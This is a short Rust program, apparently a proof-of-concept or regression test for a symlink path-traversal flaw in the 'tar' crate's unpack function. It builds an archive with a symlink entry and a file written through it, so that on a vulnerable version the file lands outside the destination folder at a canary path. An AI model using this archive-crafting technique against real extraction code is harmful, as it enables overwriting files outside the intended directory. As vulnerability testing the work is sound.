mod archive;

fn main() {
    let canary = std::env::var("PROOF_CANARY_WRITE").unwrap();
    let (folder, name) = canary.rsplit_once('/').unwrap();
    let mut bytes = Vec::new();
    archive::entry(&mut bytes, "way", b'2', folder, b"");
    archive::entry(&mut bytes, &format!("way/{name}"), b'0', "", b"out of bounds");
    archive::end(&mut bytes);
    std::fs::create_dir("dest").unwrap();
    // A fixed version refuses: that is an error, and no panic.
    let _ = tar::Archive::new(&bytes[..]).unpack("dest");
}
